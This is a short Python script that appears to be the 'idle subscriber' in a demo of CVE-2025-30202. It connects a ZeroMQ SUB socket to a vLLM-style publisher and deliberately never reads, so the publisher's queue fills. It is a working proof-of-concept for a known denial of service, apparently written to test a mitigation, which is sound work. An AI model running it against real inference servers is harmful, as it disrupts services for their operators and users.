"""The demo's idle subscriber: an allowed host that subscribes to the engine's broadcast and
never reads, the denial of service of CVE-2025-30202 ("many subscribers that never read can
slow down or block the publisher").

Usage: idle_subscriber.py HOST PORT

A libzmq SUB (as vLLM's readers are) that subscribes "" and connects to HOST:PORT, prints
{"type": "connected"} and then never calls recv(): with RCVHWM 1 and a 64 KiB receive buffer,
libzmq stops reading its socket after a message or so, and the broker's queue for it fills.
It keeps libzmq's default reconnects (every 100 ms), as a real SUB would after an eviction.
The process ends when its standard input closes.
"""

import json
import sys

import zmq


def main() -> int:
    host, port = sys.argv[1], int(sys.argv[2])
    ctx = zmq.Context()
    sock = ctx.socket(zmq.SUB)
    sock.setsockopt(zmq.LINGER, 0)
    sock.setsockopt(zmq.RCVHWM, 1)
    sock.setsockopt(zmq.RCVBUF, 64 << 10)
    sock.setsockopt(zmq.SUBSCRIBE, b"")
    sock.connect(f"tcp://{host}:{port}")
    print(json.dumps({"type": "connected"}), flush=True)
    try:
        sys.stdin.read()  # never reads the socket; ends when the demo closes our stdin
    except KeyboardInterrupt:
        pass
    finally:
        sock.close(0)
        ctx.term()
    return 0


if __name__ == "__main__":
    sys.exit(main())
